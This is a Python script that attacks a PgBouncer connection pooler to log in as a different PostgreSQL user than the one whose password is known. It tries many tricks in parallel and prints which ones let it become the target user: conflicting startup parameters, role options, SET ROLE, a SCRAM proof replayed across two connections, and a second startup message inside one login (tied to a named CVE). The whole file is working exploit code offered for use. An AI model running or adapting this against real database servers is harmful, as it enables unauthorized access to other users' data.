"""Tries to become another user of PgBouncer than the one whose password is known, in every way that a login offers.

usage: impostor.py HOST PORT KNOWN OWN_DATABASE TARGET TARGET_DATABASE      prints {attempt: whom it became, or why not}
The password of KNOWN is read from standard input. CVE-2026-107350 is the second start within one login.
"""

from __future__ import annotations

import itertools
import json
import secrets
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

from postgresql_wire import dial, final, first, message, reason, startup

PATIENCE_S = 5.0
# How long the server may stay silent before the next message is sent all the same.
SILENCE_S = 0.4
# Each attempt has connections of its own.
AT_ONCE = 8
NOBODYS = "database_of_nobody"


class Refused(Exception):
    """In the server's own words."""


class Login:
    def __init__(self, address: tuple[str, int], password: str) -> None:
        self.socket = dial(address, PATIENCE_S)
        self.password = password
        self.read = b""
        self.bare = f"n=,r={secrets.token_urlsafe(18)}"

    def send(self, *messages: bytes) -> None:
        self.socket.sendall(b"".join(messages))

    def next(self, patience_s: float = PATIENCE_S) -> tuple[bytes, bytes] | None:
        """The next message; None if none comes in time."""
        self.socket.settimeout(patience_s)
        while len(self.read) < 5 or len(self.read) < 1 + struct.unpack("!I", self.read[1:5])[0]:
            try:
                piece = self.socket.recv(65536)
            except TimeoutError:
                return None
            if not piece:
                raise Refused("closed without a word")
            self.read += piece
        end = 1 + struct.unpack("!I", self.read[1:5])[0]
        kind, body, self.read = self.read[:1], self.read[5:end], self.read[end:]
        if kind == b"E":
            raise Refused(reason(body))
        return kind, body

    def until(self, wanted: bytes) -> bytes:
        while True:
            told = self.next()
            if told is None:
                raise Refused("silence")
            if told[0] == wanted:
                return told[1]

    def drain(self) -> None:
        while self.next(SILENCE_S):
            pass

    def first(self) -> bytes:
        return first(self.bare)

    def final(self, challenge: str) -> bytes:
        return final(self.bare, challenge, self.password)

    def challenge(self) -> str:
        """The server's half of the exchange; what else it says meanwhile does not matter."""
        while True:
            body = self.until(b"R")
            if struct.unpack("!I", body[:4])[0] == 11:
                return body[4:].decode()

    def who(self) -> str:
        """Whom PostgreSQL takes this login for."""
        self.until(b"Z")
        self.send(message(b"Q", b"SELECT current_user || '@' || current_database()\0"))
        row = self.until(b"D")
        return row[6:].decode()


class Impostor:
    def __init__(self, address: tuple[str, int], known: str, password: str, own: str, target: str, theirs: str) -> None:
        self.address, self.known, self.password = address, known, password
        self.own, self.target, self.theirs = own, target, theirs

    def login(self) -> Login:
        return Login(self.address, self.password)

    def plain(self, *pairs: tuple[str, str]) -> str:
        login = self.login()
        login.send(startup(*pairs))
        login.send(login.first())
        login.send(login.final(login.challenge()))
        return login.who()

    def twice(self, before: str, database: str, when: str) -> str:
        """A second start as the target, within the login of the known user to the database `before`."""
        login = self.login()
        begin = startup(("user", self.known), ("database", before))
        again = startup(("user", self.target), ("database", database))
        if when == "at once":
            login.send(begin, again, login.first())
        elif when == "before the exchange":
            login.send(begin)
            login.drain()
            login.send(again)
            login.drain()
            login.send(login.first())
        else:
            login.send(begin, login.first())
        challenge = login.challenge()
        if when == "within the exchange":
            login.send(again)
            login.drain()
            login.send(login.final(challenge))
        elif when == "with the proof before it":
            login.send(login.final(challenge), again)
        elif when == "with the proof behind it":
            login.send(again, login.final(challenge))
        else:
            login.send(login.final(challenge))
        return login.who()

    def crossed(self) -> str:
        """Two logins at once: the proof that was made for the one is sent to the other."""
        one, other = self.login(), self.login()
        one.send(startup(("user", self.known), ("database", self.own)))
        other.send(startup(("user", self.target), ("database", self.theirs)))
        other.bare = one.bare
        one.send(one.first())
        other.send(other.first())
        proof = one.final(one.challenge())
        other.challenge()
        one.send(proof)
        other.send(proof)
        return other.who()

    def afterwards(self, statement: str) -> str:
        login = self.login()
        login.send(startup(("user", self.known), ("database", self.own)))
        login.send(login.first())
        login.send(login.final(login.challenge()))
        login.until(b"Z")
        login.send(message(b"Q", statement.encode() + b"\0"))
        login.next()
        return login.who()

    def attempts(self):
        known, target, own, theirs = self.known, self.target, self.own, self.theirs
        yield "as oneself", lambda: self.plain(("user", known), ("database", own))
        yield "the target's name with the known password", lambda: self.plain(("user", target), ("database", theirs))
        yield "the known user in the target's database", lambda: self.plain(("user", known), ("database", theirs))
        yield "both names in one start", lambda: self.plain(("user", known), ("user", target), ("database", theirs))
        yield "both names, the other way round", lambda: self.plain(("user", target), ("user", known), ("database", theirs))
        for option in ("role", "session_authorization"):
            yield f"{option} at login", lambda o=option: self.plain(("user", known), ("database", own), (o, target))
            yield (
                f"{option} in the options",
                lambda o=option: self.plain(("user", known), ("database", own), ("options", f"-c {o}={target}")),
            )
        for statement in (f'SET ROLE "{target}"', f'SET SESSION AUTHORIZATION "{target}"'):
            yield f"{statement} afterwards", lambda s=statement: self.afterwards(s)
        yield "a proof crossed over", self.crossed
        moments = (
            "at once",
            "before the exchange",
            "within the exchange",
            "with the proof behind it",
            "with the proof before it",
        )
        for before, when in itertools.product((NOBODYS, own, "pgbouncer"), moments):
            for database in (theirs, "pgbouncer") if before == NOBODYS else (theirs,):
                yield (
                    f"a second start {when}: {before}, then {database}",
                    lambda b=before, d=database, w=when: self.twice(b, d, w),
                )

    def tried(self) -> dict[str, str]:
        def outcome(attempt) -> str:
            try:
                return "became " + attempt()
            except (Refused, OSError) as refusal:
                return f"refused: {refusal}"

        names, attempts = zip(*self.attempts(), strict=True)
        with ThreadPoolExecutor(max_workers=AT_ONCE) as pool:
            return dict(zip(names, pool.map(outcome, attempts), strict=True))


def main() -> None:
    host, port, known, own, target, theirs = sys.argv[1:]
    print(json.dumps(Impostor((host, int(port)), known, sys.stdin.readline().rstrip("\n"), own, target, theirs).tried()))


main()
